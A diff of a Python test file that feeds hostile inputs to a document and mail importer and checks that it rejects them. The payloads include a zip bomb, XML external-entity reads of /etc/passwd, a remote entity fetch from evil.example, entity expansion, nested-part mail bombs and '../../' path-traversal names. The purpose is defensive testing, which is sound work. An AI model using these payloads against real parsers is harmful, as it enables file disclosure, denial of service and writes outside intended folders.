@@ -202,14 +202,12 @@ PARAGRAPH = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Text.</w:t></w
 MAIL = b"From: a@example.org\nSubject: =?utf-8?q?=2E=2E/=2E=2E/x?=\nDate: Mon, 3 Mar 2025 10:00:00 +0000\n"
 HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "a bomb in a docx": ("a.docx", lambda: zipped({"word/document.xml": b"<a>" + b" " * 40_000_000}), "unpacks to more than"),
-    "a docx in a docx": ("a.docx", lambda: zipped({"a.docx": zipped({"word/document.xml": PARAGRAPH})}), "cannot be read"),
+    "a docx in a docx": ("a.docx", lambda: zipped({"a.docx": zipped({"word/document.xml": PARAGRAPH})}), "is no document of Word"),
     "entities in a docx": ("a.docx", lambda: zipped({"word/document.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "entities"),
     "a file of the machine": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', "entities"),
     "a thousand laughs": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><rss>&b;</rss>', "entities"),
     "a parameter entity": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><rss/>', "entities"),
     "a deep feed": ("a.xml", lambda: b"<rss>" + b"<item>" * 100_000, "broken XML"),
-    "a feed of deep entries": (
-        "a.xml", lambda: b"<rss><item><description>" + b"<b>" * 20_000 + b"x " * 50 + b"</b>" * 20_000 + b"</description></item></rss>", ""),
     "a mail of many parts": (
         "a.eml", lambda: MAIL + b'Content-Type: multipart/mixed; boundary="x"\n\n' + b"--x\nContent-Type: text/csv\n\na\n" * 20_000 + b"--x--\n", "more than 500 parts"),
     "a mail inside itself": (
@@ -242,7 +240,7 @@ def test_thousands_of_entries_in_a_docx_cost_nothing(root: Path) -> None:
         "/abs.txt": b"x",
     }
     path = root.parent / "a.docx"
-    path.write_bytes(zipped({**files, "word/document.xml": PARAGRAPH}))
+    path.write_bytes(zipped({"word/document.xml": PARAGRAPH, **files}))
     started = time.perf_counter()
     (made,) = bring(path, Seeder(root))
     assert time.perf_counter() - started < 5
@@ -264,7 +262,7 @@ def test_names_in_a_mail_lead_nowhere(root: Path) -> None:
     )
     (made,) = bring(path, Seeder(root))
     assert made.path == root / "seeds" / "2025-03-03-x.txt"
-    assert "attachments were left out: ../../evil.txt" in " ".join(made.remarks)
+    assert "left out: the attachment ../../evil.txt" in " ".join(made.remarks)
     assert not list(root.parent.rglob("evil*"))
 
 
